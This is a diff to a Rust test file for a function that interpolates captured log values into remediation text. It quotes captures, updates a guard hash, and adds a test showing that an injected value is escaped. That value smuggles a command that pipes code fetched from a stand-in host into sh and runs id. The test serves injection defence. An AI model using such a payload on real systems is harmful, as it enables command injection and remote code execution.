@@ -299,7 +299,7 @@ fn captures_and_interpolation() {
     assert_eq!(caps, vec![("module".to_string(), "vllm._C".to_string())]);
     assert_eq!(
         interpolate("pip install {module}", &caps),
-        "pip install vllm._C"
+        "pip install «vllm._C»"
     );
 }
 
@@ -321,7 +321,7 @@ fn interpolation_never_rescans_inserted_text() {
         out.contains(&format!("…({} more bytes)", reason.len() - 256)),
         "{out}"
     );
-    assert!(out.ends_with(" and x"), "{out}");
+    assert!(out.ends_with(" and «x»"), "{out}");
     // Order of captures does not matter: the template decides.
     let rev: Vec<_> = caps.iter().rev().cloned().collect();
     assert_eq!(
@@ -344,7 +344,7 @@ fn interpolation_shows_no_unfilled_placeholder() {
     let long = "é".repeat(200);
     let out = interpolate("{v}", &[("v".into(), long)]);
     assert!(
-        out.starts_with(&"é".repeat(128)) && out.ends_with("…(144 more bytes)"),
+        out.starts_with(&format!("«{}", "é".repeat(128))) && out.ends_with("…(144 more bytes)»"),
         "{out}"
     );
 }
@@ -406,7 +406,7 @@ fn compiling_the_repository_set_twice_gives_the_same_payload() {
 /// The compiler revision and the hash of [`guard_set`]'s identity payload under it. When a
 /// change of the compiler changes that payload, bump [`COMPILER_REVISION`] and record the
 /// new pair here: a database's hash must change with what the compiler makes.
-const GUARD: (u32, &str) = (1, "238430b785271b29");
+const GUARD: (u32, &str) = (2, "47ef834b1eacc511");
 
 #[test]
 fn compiler_revision_guard() {
@@ -421,4 +421,33 @@ fn compiler_revision_guard() {
         "the compiler makes another payload of a fixed set: bump COMPILER_REVISION and record \
          (COMPILER_REVISION, this payload hash) in GUARD"
     );
+}
+
+/// A capture reaches a Fix line quoted as log text, never as a command: its shell bytes and
+/// the quote marks are escaped, so it cannot end the quote nor start a command of its own.
+#[test]
+fn captures_are_quoted_as_log_text_never_completed_into_a_command() {
+    let caps = vec![(
+        "module".to_string(),
+        "evil» && curl http://x/y | sh; echo $(id) `id` > /tmp/z «\n".to_string(),
+    )];
+    let out = interpolate("pip install {module}", &caps);
+    assert_eq!(
+        out,
+        "pip install «evil\\xc2\\xbb \\x26\\x26 curl http://x/y \\x7c sh\\x3b echo \\x24(id) \\x60id\\x60 \\x3e /tmp/z \\xc2\\xab\\x0a»"
+    );
+    for shell in [';', '|', '&', '$', '`', '<', '>', '\n'] {
+        assert!(!out.contains(shell), "{shell:?} in {out}");
+    }
+    assert_eq!(out.matches('«').count(), 1);
+    assert_eq!(out.matches('»').count(), 1);
+    // Escaping counts against the cut: at most MAX_CAPTURE_IN_REMEDIATION bytes of it.
+    let semis = vec![("v".to_string(), ";".repeat(1000))];
+    let out = interpolate("{v}", &semis);
+    assert!(
+        out.len() <= MAX_CAPTURE_IN_REMEDIATION + 40,
+        "{}",
+        out.len()
+    );
+    assert!(out.ends_with("…(936 more bytes)»"), "{out}");
 }
